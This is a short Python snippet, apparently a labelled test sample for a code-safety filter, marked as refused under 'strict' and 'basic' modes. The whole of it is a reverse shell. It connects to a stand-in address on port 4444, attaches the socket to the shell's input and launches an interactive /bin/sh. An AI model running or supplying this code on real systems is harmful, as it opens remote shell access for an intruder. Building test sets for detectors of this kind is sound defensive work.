# refused: strict, basic
import socket, subprocess, os
s = socket.socket()
s.settimeout(1)
s.connect(("192.0.2.1", 4444))
os.dup2(s.fileno(), 0)
subprocess.call(["/bin/sh", "-i"])
